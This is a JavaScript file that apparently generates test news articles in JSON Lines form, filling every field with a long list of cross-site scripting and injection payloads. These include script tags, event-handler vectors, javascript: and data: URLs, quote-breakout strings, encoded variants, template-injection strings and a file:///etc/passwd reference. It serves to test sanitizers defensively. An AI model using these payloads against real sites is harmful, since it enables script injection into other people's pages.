// Writes articles as JSON Lines that try, in every field, each known way by which text becomes script. All of them share a passage.
const DO = "window.pwned=1";
const RUNS = [
  `<script>${DO}</script>`, `<ScRiPt >${DO}</sCrIpT\t>`, `</script><script>${DO}//`, `<script\n>${DO}<!--`, `<<script>${DO}</script>`, `<scr<script>ipt>${DO}</script>`,
  `<script src=data:,${DO}></script>`, `<script type=module>${DO}</script>`, `<svg><script>${DO}</script></svg>`, `<svg/onload=${DO}>`, `<svg><a xlink:href="javascript:${DO}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`, `<math><mtext><table><mglyph><style><img src=x onerror=${DO}>`, `<img src=x onerror=${DO}>`, `<img src=x:x onerror\n=\n${DO}//`,
  `<image src=x onerror=${DO}>`, `<video><source onerror=${DO}></video>`, `<audio src=x onerror=${DO}>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${DO}"></object>`, `<embed src="data:text/html,<script>${DO}</script>">`, `<details open ontoggle=${DO}>x</details>`, `<input autofocus onfocus=${DO}>`, `<select autofocus onfocus=${DO}>`,
  `<body onload=${DO}>`, `<marquee onstart=${DO}>x</marquee>`, `<style>@import 'https://example.org/x.css';</style>`, `<style onload=${DO}></style>`, `<link rel=stylesheet href=https://example.org/x.css onload=${DO}>`,
  `<base href="https://example.org/">`, `<meta http-equiv=refresh content="0;url=javascript:${DO}">`, `<form action="javascript:${DO}"><button autofocus>x</button></form>`, `<button formaction="javascript:${DO}">x</button>`,
  `<p style="background:url(https://example.org/x.png)" onmouseover=${DO}>x</p>`, `<template><script>${DO}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${DO}>">`, `<textarea></textarea><img src=x onerror=${DO}>`,
];
const CLOSES = [
  `"><img src=x onerror=${DO}>`, `'><img src=x onerror=${DO}>`, `" autofocus onfocus=${DO} x="`, `' autofocus onfocus=${DO} x='`, `\` onfocus=${DO} autofocus`, `</title><img src=x onerror=${DO}>`, `</style><img src=x onerror=${DO}>`,
  `--><img src=x onerror=${DO}>`, `--!><img src=x onerror=${DO}>`, `]]><img src=x onerror=${DO}>`, `</textarea></select></option></xmp></noscript><img src=x onerror=${DO}>`, `";${DO};//`, `'-${DO}-'`, `\\";${DO};//`, `\\u003cimg src=x onerror=${DO}\\u003e`,
  `&lt;img src=x onerror=${DO}&gt;`, `&#60;img src=x onerror=${DO}&#62;`, `%3Cimg%20src%3Dx%20onerror%3D${DO}%3E`, `+ADw-img src=x onerror=${DO}+AD4-`, `\u2028${DO}\u2029`, `\u0000<\u0000img src=x onerror=${DO}>`, `＜img src=x onerror=${DO}＞`,
  `{{ 7 * 7 }}{% include "page.html" %}{# x`, `{{ ${DO} }}\${${DO}}<%= ${DO} %>#{${DO}}`, `\u200b<img src=x onerror=${DO}>`, `\u202e<img src=x onerror=${DO}>\u202c`, `<!--#exec cmd="x"--><?php x ?><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>&y;`,
];
const LEADS = [
  `javascript:${DO}`, `JaVaScRiPt:${DO}`, `java\nscript:${DO}`, `\u0001javascript:${DO}`, ` javascript:${DO}`, `data:text/html,<script>${DO}</script>`, `vbscript:${DO}`, `//example.org/x`, `https://example.org/"onclick="${DO}`, `https://example.org/'><script>${DO}</script>`,
  `file:///etc/passwd`, `#"><img src=x onerror=${DO}>`,
];
const shared = "The council obviously shut the old bridge at Alder Creek on Monday after inspectors found cracks in both of its girders, the radical mayor claimed";
const ways = [...RUNS, ...CLOSES, ...LEADS];
for (let at = 0; at < ways.length; at += 5) {
  const [way, ...others] = ways.slice(at, at + 5);
  const nth = at / 5;
  console.log(JSON.stringify({
    id: `${nth}${way}`,
    title: `Chaos ${way} at ${others[0] ?? ""} the bridge`,
    outlet: `${nth} ${way}`,
    byline: way,
    published: `2026-01-${10 + nth}T00:00:00Z${way}`,
    url: LEADS[nth] ?? way,
    lang: `en${way}`,
    text: [`${shared} ${way} before noon.`, ...others.map((other) => `“${other}” said Ada ${other} Lovelace of ${way}, a regime of ${nth + 20} ${other} euros.`)].join("\n\n"),
  }));
}
